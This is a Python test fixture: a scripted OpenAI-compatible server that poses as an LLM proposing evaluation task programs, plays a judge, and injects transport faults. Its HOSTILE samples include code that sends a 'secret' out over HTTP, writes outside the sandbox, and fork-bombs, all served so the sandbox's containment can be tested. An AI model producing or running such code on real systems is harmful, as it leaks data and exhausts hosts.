"""A scripted, fault-injecting OpenAI-compatible endpoint that plays an LLM scientist, its judge
and its embeddings, for runs whose model would otherwise be a real LLM.

Chat requests are recognised by their system prompt:
- the scientist's conversation (the first turn proposes, later turns reflect): the proposals
  cycle through PROGRAMS, each finished ("done") at its first reflection;
- the scientist answering its own task: "4";
- the novelty check: "Decision: Yes";
- a task judge (eval_with_llm_judge, from the worker or the scientist's validation): Yes unless
  the submission is the dummy validation answer.

Transport faults come every FAULT_EVERY-th chat request, in turn: 429 with Retry-After, a reply
slower than the client's timeout, a body that is not JSON, and a reply cut mid-way. Every fault
served and every judge prompt is counted.
"""

import collections
import hashlib
import http.server
import json
import threading
import time

GOOD = '''class TaskFamily:
    @staticmethod
    def get_tasks():
        return {"1": {"n": 2}, "2": {"n": 21}}

    @staticmethod
    def get_instructions(t):
        return f"Double {t['n']}. Answer with the number only."

    @staticmethod
    def score(t, submission):
        return 1.0 if submission.strip() == str(2 * t["n"]) else 0.0
'''

# Scored by the run's judge: a model passes unless it gives the dummy answer.
JUDGED = '''class TaskFamily:
    @staticmethod
    def get_tasks():
        return {"1": {"topic": "rain"}, "2": {"topic": "snow"}}

    @staticmethod
    def get_instructions(t):
        return f"Write one sentence about {t['topic']}."

    @staticmethod
    def score(t, submission):
        from src.eval_helper import eval_with_llm_judge
        instructions = TaskFamily.get_instructions(t)
        return 1.0 if eval_with_llm_judge(instructions, submission, ["One sentence."]) else 0.0
'''

# Hostile programs: each must be contained (and, failing in the sandbox, refused).
HOSTILE = {
    # Sends a secret to the endpoint itself: no network in the sandbox.
    "exfiltrate": '''import urllib.request
class TaskFamily:  # HOSTILE
    @staticmethod
    def get_tasks():
        urllib.request.urlopen("{url}/exfil?secret=1", timeout=5).read()
        return {{"1": {{}}, "2": {{}}}}

    @staticmethod
    def get_instructions(t):
        return "Say hi."

    @staticmethod
    def score(t, submission):
        return 1.0
''',
    # Writes where the host would see it: the host's file system is read-only or absent.
    "write_host": '''class TaskFamily:  # HOSTILE
    @staticmethod
    def get_tasks():
        with open("{host_file}", "w") as f:
            f.write("escaped")
        return {{"1": {{}}, "2": {{}}}}

    @staticmethod
    def get_instructions(t):
        return "Say hi."

    @staticmethod
    def score(t, submission):
        return 1.0
''',
    # Forks without end when scoring: the process limit stops it.
    "fork_bomb": '''import os
class TaskFamily:  # HOSTILE
    @staticmethod
    def get_tasks():
        return {{"1": {{}}, "2": {{}}}}

    @staticmethod
    def get_instructions(t):
        return "Say hi."

    @staticmethod
    def score(t, submission):
        while True:
            os.fork()
''',
}

PROGRAMS = ["good", "judged", "exfiltrate", "unparseable", "write_host", "fork_bomb"]
FAULTS = ["429", "slow", "malformed", "cut"]
FAULT_EVERY = 5


def task_reply(name, code, done):
    fields = {"name_of_task": name, "description_of_task": "A task named %s." % name,
              "capability_being_measured": "following instructions",
              "estimated_human_difficulty": "2", "done": "True" if done else "False",
              "task_family": code, "example_instruction": "See the task."}
    return "THOUGHT:\nA task.\n\nRESPONSE JSON:\n```json\n%s\n```" % json.dumps(fields)


class ScriptedScientist(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, timeout_s, host_file, delay_s=0.0, faults=True):
        self.timeout_s = timeout_s
        self.host_file = host_file
        self.delay_s = delay_s  # before every chat reply: an LLM's pace
        self.inject_faults = faults
        self.lock = threading.Lock()
        self.chats = 0
        self.proposals = 0
        self.faults = collections.Counter()
        self.judge_prompts = []
        self.paths = []
        server = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(handler):
                with server.lock:
                    server.paths.append(handler.path)
                handler.send_error(404)

            def do_POST(handler):
                with server.lock:
                    server.paths.append(handler.path)
                body = json.loads(handler.rfile.read(int(handler.headers["Content-Length"])))
                if handler.path.endswith("/embeddings"):
                    return handler.reply(server.embeddings(body))
                time.sleep(server.delay_s)
                fault = server.next_fault() if server.inject_faults else None
                if fault == "429":
                    return handler.raw(429, b'{"error": {"message": "slow down"}}',
                                       {"Retry-After": "0.2"})
                if fault == "slow":
                    time.sleep(server.timeout_s + 1.5)
                if fault == "malformed":
                    return handler.raw(200, b"this is not json")
                text = server.answer(body["messages"])
                reply = json.dumps({"choices": [{"message": {"role": "assistant",
                                                              "content": text},
                                                 "finish_reason": "stop"}],
                                    "usage": {"prompt_tokens": 10,
                                              "completion_tokens": 5}}).encode()
                if fault == "cut":
                    handler.send_response(200)
                    handler.send_header("Content-Type", "application/json")
                    handler.send_header("Content-Length", str(len(reply)))
                    handler.end_headers()
                    handler.wfile.write(reply[: len(reply) // 3])
                    handler.wfile.flush()
                    handler.close_connection = True
                    return
                handler.raw(200, reply)

            def reply(handler, payload):
                handler.raw(200, json.dumps(payload).encode())

            def raw(handler, status, data, headers=None):
                try:
                    handler.send_response(status)
                    handler.send_header("Content-Type", "application/json")
                    handler.send_header("Content-Length", str(len(data)))
                    for key, value in (headers or {}).items():
                        handler.send_header(key, value)
                    handler.end_headers()
                    handler.wfile.write(data)
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client gave up (its timeout) before the slow reply came

            def log_message(handler, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        self.url = "http://127.0.0.1:%d/v1" % self.server_address[1]
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def next_fault(self):
        with self.lock:
            self.chats += 1
            if self.chats % FAULT_EVERY:
                return None
            fault = FAULTS[(self.chats // FAULT_EVERY - 1) % len(FAULTS)]
            self.faults[fault] += 1
            return fault

    def embeddings(self, body):
        texts = body["input"] if isinstance(body["input"], list) else [body["input"]]
        data = []
        for i, text in enumerate(texts):
            digest = hashlib.sha256(text.encode()).digest()
            data.append({"object": "embedding", "index": i,
                         "embedding": [b / 255.0 - 0.5 for b in digest[:16]]})
        return {"object": "list", "data": data, "model": "scripted",
                "usage": {"prompt_tokens": len(texts), "total_tokens": len(texts)}}

    def answer(self, messages):
        system = messages[0]["content"]
        if system.startswith("You design task families"):
            if len(messages) > 2:  # a reflection round: the task as it was, now done
                first = messages[2]["content"]
                if "RESPONSE JSON" not in first:
                    return "Still no JSON."
                fields = json.loads(first.split("```json\n", 1)[1].split("\n```", 1)[0])
                return task_reply(fields["name_of_task"], fields["task_family"], True)
            with self.lock:
                program = PROGRAMS[self.proposals % len(PROGRAMS)]
                self.proposals += 1
                number = self.proposals
            name = "%s_%d" % (program, number)
            if program == "unparseable":
                return "I would rather not write code today."
            if program == "good":
                code = GOOD
            elif program == "judged":
                code = JUDGED
            else:
                code = HOSTILE[program].format(url=self.url, host_file=self.host_file)
            return task_reply(name, code, False)
        if system.startswith("You judge whether an agent's submission"):
            with self.lock:
                self.judge_prompts.append(messages[-1]["content"])
            if "dummy validation submission" in messages[-1]["content"]:
                return "THOUGHT: no answer.\nDECISION: No"
            return "THOUGHT: it answers.\nDECISION: Yes"
        if system.startswith("You judge whether a proposed task family"):
            return "It is new.\nDecision: Yes"
        return "4"
